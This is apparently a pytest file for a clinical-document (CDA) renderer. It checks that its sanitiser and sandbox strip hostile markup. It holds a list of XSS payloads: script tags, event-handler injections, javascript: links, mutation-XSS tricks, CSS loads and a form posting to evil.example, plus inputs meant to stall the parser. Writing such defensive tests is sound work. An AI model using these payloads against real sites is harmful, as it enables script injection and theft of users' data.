# ruff: noqa: E501 (fragments of markup read better whole)
"""Hostile narratives and pictures (X6): nothing of them runs, loads or leads away, whatever the stylesheet."""

from functools import cache
from pathlib import Path

import pytest

from erepo.cda.rendering.errors import RenderingTooSlow
from erepo.cda.rendering.page import css_of
from erepo.cda.rendering.sandbox import clean
from erepo.cda.rendering.sanitising import sanitise
from erepo.cda.rendering.service import render
from erepo.cda.rendering.stylesheets import own
from erepo.cda.rendering.transforming import transform as transform_here
from tests.support import cda_documents as cda
from tests.support.pages import LIMITS, base64_of, body, dangers, media, picture, quick, section, sheet, told

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script of HTML": '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
    "style": "<style>body{background:url(https://evil.example/)}</style>",
    "event": '<paragraph onclick="alert(1)" onmouseover="alert(1)">x</paragraph>',
    "style attribute": '<paragraph style="background:url(https://evil.example/)">x</paragraph>',
    "javascript link": '<linkHtml href="javascript:alert(1)">x</linkHtml>',
    "javascript link in disguise": '<linkHtml href="&#9;jAvAsCrIpT&#10;:alert(1)">x</linkHtml>',
    "data link": '<linkHtml href="data:text/html,&lt;script>alert(1)&lt;/script>">x</linkHtml>',
    "foreign link": '<linkHtml href="https://evil.example/?p=1">x</linkHtml>',
    "half a link": '<linkHtml href="//evil.example/">x</linkHtml>',
    "vbscript": '<linkHtml href="vbscript:msgbox(1)">x</linkHtml>',
    "fragment that ends itself": "<linkHtml href='#\" onclick=\"alert(1)'>x</linkHtml>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/"/>',
    "base": '<base href="https://evil.example/"/>',
    "frame": '<iframe src="https://evil.example/" srcdoc="&lt;script>alert(1)&lt;/script>"/>',
    "svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    "object": '<object data="data:text/html,x"/><embed src="https://evil.example/"/>',
    "image": '<img src="https://evil.example/pixel.gif" onerror="alert(1)"/>',
    "form": '<form action="https://evil.example/"><input name="pesel"/><button>OK</button></form>',
    "markup as text": "<paragraph>&lt;script>alert(1)&lt;/script>&lt;img src=x onerror=alert(1)></paragraph>",
    "id that ends itself": "<paragraph ID='a\" onclick=\"alert(1)'>x</paragraph>",
    "class that ends itself": "<content styleCode='Bold\" onclick=\"alert(1)'>x</content>",
    "span without end": '<table><tr><td colspan="999999999" rowspan="-1">x</td></tr></table>',
    "entity names": "<paragraph>&amp;lt;script&amp;gt;alert(1)</paragraph>",
}
#: A stylesheet that trusts documents: it copies whatever they hold, elements without their namespace.
TRUSTING = sheet(
    '<xsl:apply-templates select="//h:text" mode="copy"/>',
    '<xsl:template match="*" mode="copy"><xsl:element name="{local-name()}"><xsl:copy-of select="@*"/>'
    '<xsl:apply-templates mode="copy"/></xsl:element></xsl:template>'
    '<xsl:template match="h:linkHtml" mode="copy"><a href="{@href}"><xsl:apply-templates mode="copy"/></a></xsl:template>',
)


@cache
def page_of_all() -> bytes:
    """Return the page of one document with all that is hostile in it."""
    return render(told("".join(HOSTILE.values())), Path("/nowhere"), LIMITS).octets


@pytest.mark.parametrize("name", HOSTILE)
def test_our_stylesheet_makes_nothing_of_it_even_before_it_is_sanitised(name: str) -> None:
    """Saved beside the XML and used by a browser without us, our stylesheet lets nothing through either."""
    assert dangers(transform_here(own().octets, told(HOSTILE[name]))) == []


def test_a_page_of_all_that_is_hostile_does_nothing() -> None:
    """Together they are no more dangerous than alone, and the text between them is shown."""
    page = page_of_all()
    assert dangers(page) == []
    assert page.count(b"Content-Security-Policy") == 1


@pytest.mark.parametrize("name", HOSTILE)
def test_a_stylesheet_that_trusts_documents_does_no_harm(name: str) -> None:
    """Official stylesheets pass `javascript:` on: what is sanitised is the page, whoever made it."""
    assert dangers(quick(told(HOSTILE[name]), TRUSTING)) == []


def test_an_official_stylesheet_is_trusted_no_more_than_a_document(tmp_path: Path) -> None:
    """The same through the processes, with a stylesheet of the clinic's folder."""
    official = TRUSTING.replace(b"<html>", f"<html><!-- {cda.R2} -->".encode())
    (tmp_path / "CDA_PL_IG_1.3.1.xsl").write_bytes(official)
    made = render(told("".join(HOSTILE.values())), tmp_path, LIMITS)
    assert made.stylesheet.official
    assert dangers(made.octets) == []


def test_the_look_at_dangers_finds_them() -> None:
    """Without sanitising, the stylesheet that trusts documents would hand on what runs and what loads."""
    found = dangers(transform_here(TRUSTING, told("".join(HOSTILE.values()))))
    assert {"script", "iframe", "svg", "img onerror", "paragraph onclick"} <= set(found)
    assert any(one.startswith("a href=javascript:") for one in found)


def test_where_a_link_leads_is_told_not_followed() -> None:
    """The address of a link stands beside its text, and cannot be clicked; a place on the page can."""
    page = render(
        told(
            '<linkHtml href="https://pacjent.gov.pl/">IKP</linkHtml><linkHtml href="#A">w tekście</linkHtml><paragraph ID="A">x</paragraph>'
        ),
        Path("/nowhere"),
        LIMITS,
    ).octets.decode()
    assert "https://pacjent.gov.pl/" in page
    assert 'href="https' not in page
    assert '<a href="#n-A">' in page
    assert 'id="n-A"' in page


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (base64_of(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"), "image/svg+xml"),
        (base64_of(b"<html><script>alert(1)</script></html>"), "text/html"),
        (base64_of(b"<html><script>alert(1)</script></html>"), "image/png"),
        (base64_of(picture()), "image/jpeg"),
        ('AAAA" onerror="alert(1)', "image/png"),
        (base64_of(b"%PDF-1.7"), "application/pdf"),
        (base64_of(picture()), "image/png;x=javascript:alert(1)"),
        ("", "image/png"),
    ],
)
def test_what_is_no_picture_is_not_shown_as_one(content: str, said: str) -> None:
    """A picture is what begins as one and says so; all else inside is named, or left out."""
    entry = media(content.replace('"', "&quot;"), said.replace('"', "&quot;"))
    document = cda.document(
        rest=body(section('<renderMultiMedia referencedObject="DOCUMENT_CONTENT"/>', more=entry))
    )
    page = quick(document)
    assert dangers(page) == []
    assert b'src="data:' not in page


@pytest.mark.parametrize("form", ["PNG", "JPEG", "GIF"])
def test_pictures_inside_a_document_are_shown(form: str) -> None:
    """PNG, JPEG and GIF stand in the page itself, where the narrative refers to them or not."""
    entry = media(base64_of(picture(form)), f"image/{form.lower()}")
    for text in ('<renderMultiMedia referencedObject="DOCUMENT_CONTENT"/>', "Bez odwołania"):
        page = quick(cda.document(rest=body(section(text, more=entry))))
        assert page.count(f'src="data:image/{form.lower()};base64,'.encode()) == 1


@pytest.mark.parametrize(
    "markup",
    [
        "<p><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<a href='javascript&colon;alert(1)'>x</a><a href=' #a'>x</a><a href='#a b'>x</a>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='><img src='data:image/png;base64,PHN2Zz4='>",
        "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
        "<input autofocus onfocus=alert(1)><details ontoggle=alert(1) open><marquee onstart=alert(1)>",
        "<a xlink:href='javascript:alert(1)' ping='https://evil.example'>x</a>",
        "<p class='x\" onclick=\"alert(1)' id='&quot; onclick=alert(1)'>x</p>",
        "<style>@import 'https://evil.example'</style><link rel=stylesheet href=https://evil.example>",
        "<table background=https://evil.example><td background=https://evil.example>x",
        "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    ],
)
def test_tricks_of_form_do_not_pass(markup: str) -> None:
    """What browsers read otherwise than it is written (mutation, foreign elements, entities) is dropped."""
    assert dangers(f"<body>{sanitise(markup)}".encode()) == []


@pytest.mark.parametrize("markup", ["<div>" * 100_000, "<b></p>" * 100_000])
def test_markup_that_takes_hours_to_read_is_given_up(markup: str) -> None:
    """Browsers' rules for bent markup cost the square of its length: the locked process is ended in time."""
    with pytest.raises(RenderingTooSlow):
        clean(markup.encode(), LIMITS)


def test_what_is_cleaned_is_cleaned_behind_the_walls() -> None:
    """Sanitising runs in a process of its own, locked like the first; deep nesting does not end its stack."""
    cleaned = clean(b"<p onclick=x>Za&#380;\xc3\xb3\xc5\x82\xc4\x87" + b"<b>" * 100_000, LIMITS)
    assert cleaned.markup.startswith("<p>Zażółć".encode())
    assert cleaned.walls == ("limits", "no-new-privileges", "system-calls")


def test_pictures_may_be_wrapped() -> None:
    """Official examples break base64 into lines and indent it: the picture is shown, in one piece."""
    text = base64_of(picture())
    wrapped = "\n\t " + "\r\n\t".join(text[at : at + 20] for at in range(0, len(text), 20)) + "\n"
    document = cda.document(rest=body(section("x", more=media(wrapped, "image/png"))))
    page = render(document, Path("/nowhere"), LIMITS).octets.decode()
    assert f'src="data:image/png;base64,{text}"' in page


@pytest.mark.parametrize(
    "css",
    [
        "@import 'https://evil.example';", "p{background:url(https://evil.example)}", "p{background:u\\72l(x)}",
        "p{width:expression(alert(1))}", "p{background:image-set('x' 1x)}",
    ],
)  # fmt: skip
def test_styles_that_reach_out_are_left_out(css: str) -> None:
    """Of a stylesheet's styles, those that load anything are not used, the others are."""
    two = sheet(head="").replace(b"<html>", f"<html><style>b{{}}</style><style>{css}</style>".encode())
    assert css_of(two) == "b{}"


def test_a_document_has_no_say_in_styles() -> None:
    """A style element that the stylesheet fills from the document is not used."""
    filled = sheet(head="").replace(b"<html>", b'<html><style><xsl:value-of select="//h:title"/></style>')
    assert css_of(filled) == ""
